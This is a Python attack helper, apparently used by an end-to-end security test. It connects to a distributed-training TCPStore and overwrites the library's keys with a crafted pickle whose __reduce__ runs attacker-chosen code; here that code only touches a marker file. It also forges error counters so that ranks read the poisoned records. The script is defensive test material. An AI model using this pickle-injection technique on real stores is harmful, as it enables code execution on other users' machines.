"""An outsider on this host who reaches neps_bcast's stores and writes to them.

Started by tests/e2e/test_e2e_security.py while a search runs. It learns the leader store's
address as an outsider could (from a rank's environment, or from the launcher's store),
then, round after round until told to stop (bounded), overwrites every key neps_bcast
uses with a pickle that creates ``--marker`` when unpickled, and bumps the error
counters so that ranks read the forged error records. It reports what it did as JSON
on stdout. Nothing here is neps_bcast code: it speaks the plain TCPStore protocol.
"""

from __future__ import annotations

import argparse
import datetime
import json
import pickle
import sys
import time
from pathlib import Path

from torch._C._distributed_c10d import TCPStore


class Bomb:
    """Unpickling this creates the marker file: code an outsider chose, run as the user."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (Path.touch, (self.marker,))  # type: ignore[return-value]


def keys(max_seq: int, world: int) -> list[str]:
    found = ["leader"]
    for seq in range(1, max_seq + 1):
        found.append(f"neps_bcast/trial/{seq}")
        found += [f"neps_bcast/err/{seq}/{r}" for r in range(world)]
    for r in range(world):
        found += [
            f"neps_bcast/rank/{r}",
            f"neps_bcast/watch/released/{r}",
            f"neps_bcast/ctl/joined/{r}",
        ]
    return found


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument(
        "--targets", required=True, help="JSON file {addresses, prefixes}, polled until it exists"
    )
    parser.add_argument("--marker", required=True)
    parser.add_argument("--stop", required=True, help="stop when this file exists")
    parser.add_argument("--seconds", type=float, default=90.0)
    parser.add_argument("--world", type=int, default=2)
    args = parser.parse_args()
    bomb = pickle.dumps(Bomb(args.marker))
    targets_file = Path(args.targets)
    deadline = time.monotonic() + args.seconds
    while not targets_file.exists() and time.monotonic() < deadline:
        time.sleep(0.02)  # imports are done: the test hands over the targets
    targets = json.loads(targets_file.read_text())
    stores = []
    for address in targets["addresses"]:
        host, _, port = address.rpartition(":")
        try:
            stores.append(
                TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=5))
            )
        except Exception as exc:
            print(f"cannot reach {address}: {exc}", file=sys.stderr)
    names = keys(12, args.world)
    names += [f"{prefix}/{name}" for prefix in targets["prefixes"] for name in names]
    rounds = writes = 0
    while not Path(args.stop).exists() and time.monotonic() < deadline:
        for store in stores:
            for name in names:
                try:
                    store.set(name, bomb)  # type: ignore[arg-type]
                    if name.startswith("neps_bcast/err/"):
                        store.add(name.rsplit("/", 1)[0] + "/n", 1)
                    writes += 1
                except Exception:
                    break
        rounds += 1
        time.sleep(0.05)  # pacing the attack, bounded by --seconds
    json.dump({"rounds": rounds, "writes": writes}, sys.stdout)


if __name__ == "__main__":
    main()
